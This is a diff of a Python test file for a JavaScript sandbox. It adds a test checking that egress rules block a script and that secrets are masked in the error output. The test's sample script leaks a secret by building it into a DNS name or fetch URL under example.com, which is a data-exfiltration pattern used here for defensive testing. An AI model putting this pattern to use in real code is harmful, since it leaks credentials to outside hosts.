@@ -5,7 +5,10 @@ from __future__ import annotations
 import dataclasses
 from typing import Any
 
-from tenterhook.sandbox import Invocation, Outcome, SandboxPool, Script, Verdict, Webtask
+import pytest
+
+from tenterhook.egress import Rules
+from tenterhook.sandbox import Confinement, Invocation, Outcome, SandboxPool, Script, Verdict, Webtask
 
 from .conftest import Sink
 
@@ -97,3 +100,31 @@ async def test_error_of_the_answer_is_word_for_word_for_the_flow_alone(pool: San
     assert watch.answer is not None
     assert watch.answer.error is not None
     assert watch.answer.error.message == f"failed with {SECRETS['TOKEN']}"
+
+
+@pytest.mark.parametrize(
+    "ask",
+    [
+        "require('dns').lookup",
+        "require('dns').resolve4",
+        "(name, done) => fetch('https://' + name).catch(done)",
+    ],
+)
+@pytest.mark.parametrize("secret", ["S3same-Open-42", "p@ss(w0rd)"])
+async def test_a_secret_in_a_name_that_was_refused_is_masked(
+    pool: SandboxPool, ask: str, secret: str
+) -> None:
+    source = (
+        f"module.exports = (user, context, cb) => ({ask})(context.webtask.secrets.KEY + '.example.com', cb)"
+    )
+    execution = await pool.run(
+        "acme",
+        Script(key="name", source=source),
+        Invocation(run_id="r", arguments=({}, {}), webtask=Webtask(secrets={"KEY": secret})),
+        confinement=Confinement(egress=Rules.of("enforce", ["listed.example.com"])),
+    )
+    assert execution.error is not None
+    text = repr(dataclasses.asdict(execution)).lower()
+    assert "[secret key]" in text
+    for part in ("same-open", "w0rd"):
+        assert part not in text
